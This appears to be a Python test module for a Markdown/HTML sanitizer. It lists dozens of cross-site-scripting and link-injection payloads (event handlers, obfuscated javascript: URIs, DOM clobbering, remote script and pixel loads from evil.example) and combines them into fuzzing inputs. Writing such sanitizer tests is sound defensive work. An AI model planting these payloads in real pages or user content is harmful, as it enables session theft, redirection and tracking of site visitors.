"""Texts of our own that try to get out of the text, and ways to make more of them."""

from html.parser import HTMLParser

from hypothesis import strategies as st

PAYLOADS = [
    "<script>go()</script>",
    "<ScRiPt src=//evil.example/x.js>",
    "<img src=x onerror=go()>",
    '<img src="x" onerror="go()" />',
    "<svg/onload=go()>",
    "<svg><a xlink:href='javascript:go()'><text>x</text></a></svg>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--><img src=x onerror=go()>'>",
    "<iframe srcdoc='<script>go()</script>'></iframe>",
    "<a href='javascript:go()'>x</a>",
    "<a href='java\tscript:go()'>x</a>",
    "<a href='&#106;avascript:go()'>x</a>",
    "<a href='javascript&colon;go()'>x</a>",
    "<a href='javascript:1'>x</a>",
    "<a href='`javascript:1'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='http:evil.example'>x</a>",
    "<a href='data:text/html,<script>go()</script>'>x</a>",
    "<a href='https://fine.example' onclick='go()' style='position:fixed' target='_top'>x</a>",
    "<a href='https://fine.example' rel='me'>x</a>",
    "<form id=document name=cookie action=//evil.example><input name=body></form>",
    "<p id='main' name='main' class='badge staff'>I am the author</p>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<details open ontoggle=go()>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=go()>'>",
    "<textarea><p title='</textarea><img src=x onerror=go()>'>",
    "<!--><img src=x onerror=go()>-->",
    "<![CDATA[<img src=x onerror=go()>]]>",
    "<?php go() ?>",
    "<button formaction=javascript:go()>x</button>",
    "<input autofocus onfocus=go()>",
    "<video><source onerror=go()></video>",
    "<p/onmouseover=go()>x",
    "[x](javascript:go())",
    "[x](JaVaScRiPt:1)",
    "[x](java\nscript:go())",
    "[x](&#106;avascript:go())",
    "[x](javascript&colon;go())",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:go())",
    "[x](file:///etc/passwd)",
    "[x](steam:12)",
    "[x](tel:123)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](<javascript:go()>)",
    "[x]: javascript:go()\n\n[x]",
    "[x]: //evil.example\n\n[x]",
    "<javascript:go()>",
    "<steam:12>",
    "ftp://files.example and //evil.example",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:go())",
    "![x](//evil.example/pixel.gif)",
    "![x](data:image/svg+xml,<svg/onload=go()>)",
    "[![x](https://evil.example/pixel.gif)](https://fine.example)",
    '![" onerror="go()](https://evil.example/x.gif)',
    '[x](https://fine.example "\\" onmouseover=\\"go()")',
    "[x](https://fine.example 'a\" onmouseover=\"go()')",
    'https://fine.example/"onmouseover="go()',
    "https://fine.example/'><img src=x onerror=go()>",
    "[<img src=x onerror=go()>](https://fine.example)",
    '```html" onmouseover="go()\n</code></pre><script>go()</script>\n```',
    "``` x class=y id=z\ncode\n```",
    "`<script>go()</script>`",
    "&lt;script&gt;go()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=go()&amp;gt;",
    "# <script>go()</script>",
    "> <script>go()</script>",
    "- <script>go()</script>",
    "|<script>|\n|-|\n|<img src=x onerror=go()>|",
    "{: onclick=go() id=x .badge}",
    "<div\n\nonclick=go()>",
]

markdown_pieces = st.one_of(
    st.sampled_from(PAYLOADS),
    st.sampled_from(
        [
            "*",
            "**",
            "_",
            "~~",
            "`",
            "```\n",
            "> ",
            "- ",
            "1. ",
            "# ",
            "\n",
            "\n\n",
            "    ",
            "[",
            "]",
            "(",
            ")",
            "](",
            "![",
            "<",
            ">",
            '"',
            "'",
            "&",
            "&amp;",
            "&#x3c;",
            "\\",
            "|",
            "|-|\n",
            "---",
            "https://a.example/?q=1&copy=2",
            "me@a.example",
            "www.a.com",
            "/media/a.png",
            "\t",
            "\x00",
            "https://youtu.be/abcdefghijk",
            "https://vimeo.com/12345",
        ]
    ),
    st.text(max_size=8),
)
hostile_sources = st.lists(markdown_pieces, max_size=30).map("".join)


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    """The tags of ``html`` in order, each with its attributes, entities decoded."""
    reader = _Elements()
    reader.feed(html)
    reader.close()
    return reader.found


def words(html: str) -> str:
    """All text of ``html``, entities decoded."""
    reader = _Elements()
    reader.feed(html)
    reader.close()
    return "".join(reader.text)
